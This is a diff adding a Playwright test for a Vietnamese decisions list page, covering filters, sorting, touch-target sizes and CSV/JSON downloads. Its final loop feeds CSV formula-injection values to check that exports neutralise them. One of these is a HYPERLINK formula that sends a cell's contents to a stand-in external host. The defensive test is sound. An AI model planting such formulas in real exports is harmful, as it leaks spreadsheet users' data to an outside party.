@@ -178,3 +178,70 @@ def test_the_guide_has_44_px_copy_buttons_and_commands_that_fit_a_phone(chromium
     cut = page.eval_on_selector_all("pre", "els => els.filter(e => e.scrollWidth > e.clientWidth).length")
     assert cut == 0  # every command readable whole, without scrolling sideways
     page.close()
+
+
+def test_a_year_is_a_list_view_with_counted_filters_sorting_and_downloads_of_the_rows_shown(chromium, sample, tmp_path):
+    import csv
+    import json
+
+    from generator.site.exports import csv_cell
+
+    _, base = sample
+    for size in (PHONE, DESKTOP):
+        page = chromium.new_page(accept_downloads=True, **size)
+        page.goto(base + "quyet-dinh/2024/")
+        table = page.locator("table[data-bv-list]")
+        total = table.locator("tbody tr").count()
+        assert page.locator(".bv-listview__status").inner_text() == f"Đang hiện tất cả {total} dòng."
+        box = page.locator("details.bv-listview")
+        assert (box.get_attribute("open") is None) == (size is PHONE)  # on a phone the list comes first
+        if size is PHONE:
+            page.get_by_text("Lọc và tải danh sách").click()
+        assert page.evaluate("document.documentElement.scrollWidth") <= size["viewport"]["width"]
+        authority = page.get_by_label("Cơ quan")
+        options = authority.locator("option").all_inner_texts()
+        assert options[0] == f"Tất cả ({total})"
+        counts = {o.rsplit(" (", 1)[0]: int(o.rsplit("(", 1)[1].rstrip(")")) for o in options[1:]}
+        assert sum(counts.values()) == total
+        chosen = max(counts, key=counts.get)
+        authority.select_option(chosen)
+        visible = table.locator("tbody tr:visible")
+        assert visible.count() == counts[chosen] < total
+        assert page.locator(".bv-listview__status").inner_text() == f"Đang hiện {counts[chosen]} trên {total} dòng."
+        # the other filters count only what the first leaves
+        form_options = page.get_by_label("Hình thức").locator("option").all_inner_texts()
+        assert form_options[0] == f"Tất cả ({counts[chosen]})"
+        box = authority.bounding_box()
+        assert box["height"] >= 44
+        with page.expect_download() as got:
+            page.get_by_role("button", name="Tải CSV các dòng đang hiện").click()
+        path = tmp_path / "list.csv"
+        got.value.save_as(path)
+        assert got.value.suggested_filename == "quyet-dinh-nam-2024.csv"
+        rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
+        assert len(rows) == counts[chosen] and {r["Cơ quan"] for r in rows} == {chosen}
+        with page.expect_download() as got:
+            page.get_by_role("button", name="Tải JSON").click()
+        got.value.save_as(tmp_path / "list.json")
+        assert json.loads((tmp_path / "list.json").read_text("utf-8")) == rows
+        if size is DESKTOP:  # sorting by date, oldest first, then newest first
+            page.get_by_role("button", name="Ngày").click()
+            assert page.locator("th[aria-sort=ascending]").inner_text().startswith("Ngày")
+            dates = table.locator("tbody tr:visible td[data-sort]").evaluate_all(
+                "cells => cells.map(c => c.getAttribute('data-sort'))")
+            dates = [d for d in dates if len(d) == 10]
+            assert dates == sorted(dates)
+            page.get_by_role("button", name="Ngày").click()
+            dates = [d for d in table.locator("tbody tr:visible td[data-sort]").evaluate_all(
+                "cells => cells.map(c => c.getAttribute('data-sort'))") if len(d) == 10]
+            assert dates == sorted(dates, reverse=True)
+            # the browser's CSV guard is exports.py's: a cell that would run as a formula is neutralised alike
+            for value in ('=HYPERLINK("https://x.example/?"&B2,"Xem")', "+1", "-2", "@a", "bình, \"thường\""):
+                page.evaluate("v => { document.querySelector('table[data-bv-list] tbody tr:not([hidden]) td')"
+                              ".textContent = v; }", value)
+                with page.expect_download() as got:
+                    page.get_by_role("button", name="Tải CSV các dòng đang hiện").click()
+                got.value.save_as(path)
+                first = next(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()[1:]))
+                assert first[0] == csv_cell(value)
+        page.close()
